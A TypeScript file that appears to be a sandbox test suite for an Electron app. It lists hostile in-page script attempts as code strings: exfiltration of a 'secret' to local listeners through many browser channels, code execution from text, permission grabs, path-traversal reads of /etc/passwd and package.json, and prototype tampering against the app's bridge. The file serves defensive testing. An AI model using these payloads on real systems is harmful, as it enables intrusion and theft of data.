/** Attempts of a hostile script inside the page. Each is the body of an async function: true means that it succeeded by itself. */
export interface Attaque {
  readonly nom: string
  readonly corps: string
  /** Leaves the page when it succeeds: played one at a time. */
  readonly depart?: true
}

export interface Cibles {
  readonly http: string
  readonly ws: string
  readonly ports: Readonly<Record<'stun' | 'turn-udp' | 'turn-tcp' | 'stun-cadre' | 'preconnexion', number>>
  /** A picture, a script and a text of this computer, as `file:` addresses. */
  readonly image: string
  readonly script: string
  readonly texte: string
}

const attendreImage = (reglage: string) =>
  `return await new Promise((oui) => { const i = new Image(); i.onload = () => oui(i.naturalWidth > 0); i.onerror = () => oui(false); ${reglage} })`
const element = (balise: string, attributs: Readonly<Record<string, string>>) =>
  `const e = document.createElement('${balise}'); for (const [k, v] of ${JSON.stringify(Object.entries(attributs))}) e.setAttribute(k, v); document.body.append(e); await pause(600)`
/** The marker that a script sets when it runs. */
const marque = (nom: string) => `globalThis.__joue_${nom.replaceAll(/\W/gu, '_')}`
const joue = (nom: string) => `await pause(300); return ${marque(nom)} === 1`
const peer = (fenetre: string, serveurs: string) =>
  `const p = new ${fenetre}.RTCPeerConnection({ iceServers: ${serveurs} }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await pause(1200)`
const accordee = (nom: string) => `return (await navigator.permissions.query({ name: '${nom}' })).state === 'granted'`

/** Sends something out: success is what the ears hear under the attack's name. */
function sorties({ http, ws, ports }: Cibles): readonly Attaque[] {
  const vers = (nom: string, corps: (url: string) => string): Attaque => ({ nom, corps: corps(`${http}/${nom}`) })
  return [
    vers('fetch', (u) => `await fetch('${u}', { mode: 'no-cors' })`),
    vers('fetch-keepalive', (u) => `await fetch('${u}', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' })`),
    vers('xhr', (u) => `const x = new XMLHttpRequest(); x.open('POST', '${u}'); x.send('secret'); await pause(500)`),
    vers('xhr-synchrone', (u) => `const x = new XMLHttpRequest(); x.open('GET', '${u}', false); x.send()`),
    vers('balise-envoi', (u) => `navigator.sendBeacon('${u}', 'secret'); await pause(500)`),
    vers('image', (u) => `new Image().src = '${u}'; await pause(500)`),
    vers('image-srcset', (u) => element('img', { srcset: `${u} 1x` })),
    vers(
      'image-svg',
      (u) =>
        `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', '${u}'); i.setAttribute('width', '9'); i.setAttribute('height', '9'); s.append(i); document.body.append(s); await pause(600)`
    ),
    vers('bouton-image', (u) => element('input', { type: 'image', src: u })),
    vers('feuille-de-style', (u) => element('link', { rel: 'stylesheet', href: u })),
    vers('import-css', (u) => `const e = document.createElement('style'); e.textContent = '@import url("${u}")'; document.head.append(e); await pause(600)`),
    vers('fond-css', (u) => `document.body.style.backgroundImage = 'url("${u}")'; await pause(600); document.body.style.backgroundImage = ''`),
    vers(
      'style-injecte',
      (u) =>
        `const e = document.createElement('style'); e.textContent = 'html { list-style-image: url("${u}"); background: url("${u}") }'; document.head.append(e); await pause(600); e.remove()`
    ),
    vers('police', (u) => `await new FontFace('vol', 'url("${u}")').load().catch(() => {}); await pause(200)`),
    vers('script-distant', (u) => element('script', { src: u })),
    vers('module-distant', (u) => `await import('${u}').catch(() => {})`),
    vers('module-precharge', (u) => element('link', { rel: 'modulepreload', href: u })),
    vers('precharge', (u) => element('link', { rel: 'preload', as: 'image', href: u })),
    vers('anticipe', (u) => element('link', { rel: 'prefetch', href: u })),
    vers('icone', (u) => element('link', { rel: 'icon', href: u })),
    vers('cadre', (u) => element('iframe', { src: u })),
    vers('objet', (u) => element('object', { data: u })),
    vers('incorpore', (u) => element('embed', { src: u })),
    vers('video', (u) => element('video', { src: u, preload: 'auto' })),
    vers('affiche-video', (u) => element('video', { poster: u })),
    vers('audio', (u) => element('audio', { src: u, preload: 'auto' })),
    vers(
      'ping-de-lien',
      (u) => `const a = document.createElement('a'); a.href = '#'; a.setAttribute('ping', '${u}'); document.body.append(a); a.click(); await pause(600)`
    ),
    vers('evenements', (u) => `new EventSource('${u}'); await pause(600)`),
    vers('travailleur-distant', (u) => `new Worker('${u}'); await pause(500)`),
    vers('travailleur-partage', (u) => `new SharedWorker('${u}'); await pause(500)`),
    vers(
      'formulaire-cadre',
      (u) =>
        `const c = document.createElement('iframe'); c.name = 'vol'; document.body.append(c); const f = document.createElement('form'); f.action = '${u}'; f.method = 'post'; f.target = 'vol'; document.body.append(f); f.submit(); await pause(600)`
    ),
    vers(
      'base-relative',
      (u) =>
        `const b = document.createElement('base'); b.href = '${http}/'; document.head.prepend(b); const i = new Image(); i.src = '${u.slice(http.length + 1)}'; await pause(500); b.remove()`
    ),
    { nom: 'websocket', corps: `new WebSocket('${ws}/websocket'); await pause(600)` },
    { nom: 'preconnexion', corps: element('link', { rel: 'preconnect', href: `http://127.0.0.1:${ports.preconnexion}` }) },
    { nom: 'stun', corps: peer('window', `[{ urls: 'stun:127.0.0.1:${ports.stun}' }]`) },
    { nom: 'turn-udp', corps: peer('window', `[{ urls: 'turn:127.0.0.1:${ports['turn-udp']}', username: 'secret', credential: 'b' }]`) },
    { nom: 'turn-tcp', corps: peer('window', `[{ urls: 'turn:127.0.0.1:${ports['turn-tcp']}?transport=tcp', username: 'secret', credential: 'b' }]`) },
    {
      nom: 'stun-cadre',
      corps: `const c = document.createElement('iframe'); document.body.append(c); ${peer('c.contentWindow', `[{ urls: 'stun:127.0.0.1:${ports['stun-cadre']}' }]`)}`
    }
  ]
}

/** Runs code that the application does not hold, or code made of text. */
const executions: readonly Attaque[] = [
  { nom: 'eval', corps: `return (0, eval)('1 + 1') === 2` },
  { nom: 'function', corps: `return new Function('return 2')() === 2` },
  { nom: 'minuterie-texte', corps: `setTimeout("${marque('minuterie-texte')} = 1", 0); ${joue('minuterie-texte')}` },
  {
    nom: 'script-en-ligne',
    corps: `const s = document.createElement('script'); s.textContent = '${marque('script-en-ligne')} = 1'; document.body.append(s); ${joue('script-en-ligne')}`
  },
  {
    nom: 'attribut-onclick',
    corps: `const b = document.createElement('button'); b.setAttribute('onclick', '${marque('attribut-onclick')} = 1'); document.body.append(b); b.click(); ${joue('attribut-onclick')}`
  },
  {
    nom: 'html-onerror',
    corps: `const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<img src=x: onerror="${marque('html-onerror')} = 1">'; ${joue('html-onerror')}`
  },
  {
    nom: 'lien-javascript',
    corps: `const a = document.createElement('a'); a.href = 'javascript:void(${marque('lien-javascript')} = 1)'; document.body.append(a); a.click(); ${joue('lien-javascript')}`
  },
  {
    nom: 'cadre-javascript',
    corps: `const c = document.createElement('iframe'); c.src = 'javascript:void(parent.__joue_cadre_javascript = 1)'; document.body.append(c); ${joue('cadre-javascript')}`
  },
  {
    nom: 'cadre-srcdoc',
    corps: `const c = document.createElement('iframe'); c.srcdoc = '<script>parent.__joue_cadre_srcdoc = 1</' + 'script>'; document.body.append(c); ${joue('cadre-srcdoc')}`
  },
  { nom: 'cadre-vide-eval', corps: `const c = document.createElement('iframe'); document.body.append(c); return c.contentWindow.eval('1 + 1') === 2` },
  {
    nom: 'script-blob',
    corps: `await new Promise((fin) => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['${marque('script-blob')} = 1'], { type: 'text/javascript' })); s.onload = s.onerror = fin; document.body.append(s) }); ${joue('script-blob')}`
  },
  {
    nom: 'script-data',
    corps: `await new Promise((fin) => { const s = document.createElement('script'); s.src = 'data:text/javascript,${marque('script-data')}=1'; s.onload = s.onerror = fin; document.body.append(s) }); ${joue('script-data')}`
  },
  { nom: 'module-data', corps: `return (await import('data:text/javascript,export default 2')).default === 2` },
  { nom: 'module-blob', corps: `return (await import(URL.createObjectURL(new Blob(['export default 2'], { type: 'text/javascript' })))).default === 2` },
  {
    nom: 'travailleur-blob',
    corps: `return await new Promise((oui) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => oui(true); w.onerror = () => oui(false) })`
  },
  {
    nom: 'travailleur-data',
    corps: `return await new Promise((oui) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => oui(true); w.onerror = () => oui(false) })`
  },
  { nom: 'webassembly', corps: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return true` },
  {
    nom: 'document-write',
    corps: `const c = document.createElement('iframe'); document.body.append(c); c.contentDocument.write('<script>parent.__joue_document_write = 1</' + 'script>'); ${joue('document-write')}`
  }
]

/** What a page may ask of the computer or of the system. */
const permissions: readonly Attaque[] = [
  { nom: 'notifications', corps: `return (await Notification.requestPermission()) === 'granted'` },
  ...[
    'geolocation',
    'camera',
    'microphone',
    'midi',
    'clipboard-read',
    'clipboard-write',
    'persistent-storage',
    'screen-wake-lock',
    'idle-detection',
    'window-management'
  ].map((nom): Attaque => ({ nom: `permission-${nom}`, corps: accordee(nom) })),
  { nom: 'position', corps: `return await new Promise((oui) => navigator.geolocation.getCurrentPosition(() => oui(true), (e) => oui(e.code !== 1)))` },
  {
    nom: 'micro-et-camera',
    corps: `return await navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => true)`
  },
  { nom: 'capture-ecran', corps: `return Boolean(await navigator.mediaDevices.getDisplayMedia({ video: true }))` },
  { nom: 'presse-papiers', corps: `return typeof (await navigator.clipboard.readText()) === 'string'` },
  { nom: 'usb', corps: `return Array.isArray(await navigator.usb.getDevices())` },
  { nom: 'serie', corps: `return Array.isArray(await navigator.serial.getPorts())` },
  { nom: 'hid', corps: `return Array.isArray(await navigator.hid.getDevices())` },
  { nom: 'midi', corps: `return Boolean(await navigator.requestMIDIAccess())` },
  { nom: 'veille-ecran', corps: `return Boolean(await navigator.wakeLock.request('screen'))` },
  { nom: 'boite-alerte', corps: `return confirm('x')` },
  { nom: 'memoire-partagee', corps: `return typeof SharedArrayBuffer === 'function' || crossOriginIsolated === true` },
  { nom: 'fenetre-vide', corps: `return window.open('about:blank') !== null` },
  {
    nom: 'telechargement',
    corps: `const a = document.createElement('a'); a.download = 'vol.html'; a.href = URL.createObjectURL(new Blob(['secret'])); document.body.append(a); a.click(); await pause(500)`
  }
]

/** Reads this computer, or what surrounds the page. */
const lectures = ({ image, script, texte }: Cibles): readonly Attaque[] => [
  { nom: 'fichier-fetch', corps: `return (await (await fetch('${texte}')).text()).includes('confidentiel')` },
  {
    nom: 'fichier-xhr',
    corps: `return await new Promise((oui) => { const x = new XMLHttpRequest(); x.open('GET', '${texte}'); x.onload = () => oui(x.responseText.includes('confidentiel')); x.onerror = () => oui(false); x.send() })`
  },
  { nom: 'fichier-image', corps: attendreImage(`i.src = '${image}'`) },
  {
    nom: 'fichier-script',
    corps: `await new Promise((fin) => { const s = document.createElement('script'); s.src = '${script}'; s.onload = s.onerror = fin; document.body.append(s) }); return globalThis.__joue_fichier === 1`
  },
  {
    nom: 'fichier-cadre',
    corps: `return await new Promise((oui) => { const c = document.createElement('iframe'); c.src = '${texte}'; c.onload = () => { try { oui((c.contentDocument?.body.textContent ?? '').includes('confidentiel')) } catch { oui(false) } }; document.body.append(c); setTimeout(() => oui(false), 800) })`
  },
  {
    nom: 'hors-du-dossier',
    corps: `const essais = ['app://grappe/../../package.json', 'app://grappe/..%2f..%2fpackage.json', 'app://grappe//etc/passwd', 'app://autre/index.html', 'app://grappe/index.html%00.png', 'app://grappe/..%5c..%5cpackage.json']; for (const u of essais) { const r = await fetch(u).catch(() => null); if (r?.ok) return true } return false`
  },
  {
    nom: 'node',
    corps: `return typeof process !== 'undefined' || typeof require !== 'undefined' || typeof Buffer !== 'undefined' || typeof module !== 'undefined'`
  },
  {
    nom: 'pont-vers-node',
    corps: `const f = Object.values(window.grappe ?? {})[0]; return Boolean(f && f.constructor('return typeof process !== "undefined" && process.versions')())`
  },
  {
    nom: 'pont-remplace',
    corps: `const avant = window.grappe; try { window.grappe = { faux: 1 } } catch {} try { window.grappe.faux = 1 } catch {} try { Object.defineProperty(window, 'grappe', { value: { faux: 1 } }) } catch {} return window.grappe?.faux === 1 || window.grappe !== avant`
  },
  {
    nom: 'pont-prototype',
    corps: `const vus = []; const avant = Function.prototype.call; Function.prototype.call = function (...a) { vus.push(this, ...a); return Reflect.apply(this, a[0], a.slice(1)) }; Object.prototype.invoke = 1; try { await window.grappe?.infos?.() } finally { Function.prototype.call = avant; delete Object.prototype.invoke } return vus.some((v) => v && (typeof v.invoke === 'function' || typeof v.ipcRenderer === 'object'))`
  },
  {
    nom: 'canal-non-prevu',
    corps: `for (const f of Object.values(window.grappe ?? {})) { if (typeof f !== 'function') continue; for (const a of [['lire', '/etc/passwd'], ['constructor'], ['__proto__', {}]]) { const r = await Promise.race([Promise.resolve().then(() => f(...a)).catch(() => null), pause(200)]); if (typeof r === 'string' && r.includes('root:')) return true } } return false`
  },
  {
    nom: 'chemin-invente',
    corps: `const g = window.grappe ?? {}; const vu = await Promise.race([Promise.resolve().then(() => g.ouvrir?.('/etc/passwd')).catch(() => false), pause(300)]); return vu === true || (await Promise.resolve().then(() => g.deposer?.('/etc/passwd')).catch(() => null)) != null`
  },
  {
    // The dialog of the system stays without an answer: only a person can give it one.
    nom: 'adresse-sans-accord',
    corps: `const g = window.grappe ?? {}; for (const a of ['http://127.0.0.1/', 'file:///etc/passwd', 'essai-grappe://ouvrir', 'https://a:b@www.cnsa.fr/', 'https://www.cnsa.fr/\\u202e', { toString: () => 'https://www.cnsa.fr' }, 'https://www.cnsa.fr']) { const r = await Promise.race([Promise.resolve().then(() => g.ouvrirAdresse?.(a)).catch(() => null), pause(200)]); if (r === 'ouverte' || r === 'copiee') return true } return false`
  },
  { nom: 'historique-ailleurs', corps: `history.pushState(null, '', 'http://127.0.0.1/'); return true` }
]

/** Takes the window elsewhere. */
const departs = ({ http, texte }: Cibles): readonly Attaque[] =>
  (
    [
      ['adresse', `location.href = '${http}/adresse'`],
      ['remplacement', `location.replace('${http}/remplacement')`],
      ['adresse-fichier', `location.href = '${texte}'`],
      ['adresse-data', `location.href = 'data:text/html,<p>x'`],
      ['lien', `const a = document.createElement('a'); a.href = '${http}/lien'; document.body.append(a); a.click()`],
      [
        'lien-nouvelle-fenetre',
        `const a = document.createElement('a'); a.href = '${http}/lien-nouvelle-fenetre'; a.target = '_blank'; document.body.append(a); a.click()`
      ],
      ['ouverture', `window.open('${http}/ouverture')`],
      ['formulaire', `const f = document.createElement('form'); f.action = '${http}/formulaire'; f.method = 'post'; document.body.append(f); f.submit()`],
      ['meta-refresh', `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${http}/meta-refresh'; document.head.append(m)`],
      ['courrier', `location.href = 'mailto:secret@example.org'`],
      ['protocole', `location.href = 'essai-grappe://ouvrir'`],
      // Alone and last: in a window left to the defaults, Electron ends the page that tries it from a file.
      ['agent-de-service', `return Boolean(await Promise.race([navigator.serviceWorker.register('index.html'), new Promise((fin) => setTimeout(fin, 300))]))`]
    ] as const
  ).map(([nom, corps]) => ({ nom, corps, depart: true }))

export const attaques = (cibles: Cibles): readonly Attaque[] => [...sorties(cibles), ...executions, ...permissions, ...lectures(cibles), ...departs(cibles)]

/** The script that plays the quiet attacks together; gives the names of those that succeeded by themselves. */
export const jouer = (calmes: readonly Attaque[]): string => `(async () => {
  const pause = (ms) => new Promise((fin) => setTimeout(fin, ms))
  const reussies = []
  const essais = [${calmes.map(({ nom, corps }) => `[${JSON.stringify(nom)}, async () => { ${corps} }]`).join(',\n')}]
  await Promise.all(essais.map(async ([nom, essai]) => {
    // Let through by the debugger that plays the script until it has returned once.
    await pause(20)
    const reussie = await Promise.race([Promise.resolve().then(essai).catch(() => false), pause(1600)])
    if (reussie === true) reussies.push(nom)
  }))
  return reussies
})()`
